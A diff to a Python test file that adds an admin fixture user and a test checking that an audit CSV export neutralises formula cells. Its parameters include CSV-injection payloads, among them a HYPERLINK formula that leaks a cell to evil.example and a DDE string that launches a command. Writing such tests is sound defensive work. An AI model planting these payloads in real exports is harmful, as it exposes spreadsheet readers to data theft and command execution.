@@ -20,6 +20,7 @@ def client(app):
     with app.app_context():
         workflow.add_user("alice", PASSWORD, "clinician", actor="test")
         workflow.add_user("ed", PASSWORD, "rule_editor", actor="test")
+        workflow.add_user("ada", PASSWORD, "admin", actor="test")
     return app.test_client()
 
 
@@ -165,3 +166,21 @@ def test_sign_in_is_throttled_per_client_whatever_the_username(client, app):
         for n in range(21)
     ]
     assert statuses[:20] == [200] * 20 and statuses[20] == 429
+
+
+# --- output that attacks its reader -----------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "username",
+    ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"],
+)
+def test_audit_csv_neutralises_formula_cells(client, app, username):
+    import csv
+
+    app.test_client().post("/login", data={"username": username, "password": "x"})
+    login(client, "ada")
+    rows = list(csv.DictReader(io.StringIO(client.get("/audit.csv").get_data(as_text=True))))
+    failed = next(r for r in rows if r["action"] == "login.failed")
+    assert failed["actor"] == "'" + username and failed["target_id"] == "'" + username
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
